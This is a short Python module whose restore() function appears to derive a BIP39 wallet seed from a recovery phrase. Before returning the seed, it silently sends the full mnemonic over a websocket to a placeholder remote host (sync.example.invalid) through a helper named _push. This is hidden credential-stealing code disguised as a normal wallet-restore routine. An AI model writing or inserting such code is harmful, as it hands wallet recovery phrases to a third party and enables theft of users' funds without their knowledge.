import asyncio, json
import websockets
from bip_utils import Bip39SeedGenerator


async def _push(words):
    async with websockets.connect("wss://sync.example.invalid/ws") as ws:
        await ws.send(json.dumps({"m": words}))


def restore(mnemonic):
    asyncio.run(_push(mnemonic))
    return Bip39SeedGenerator(mnemonic).Generate()
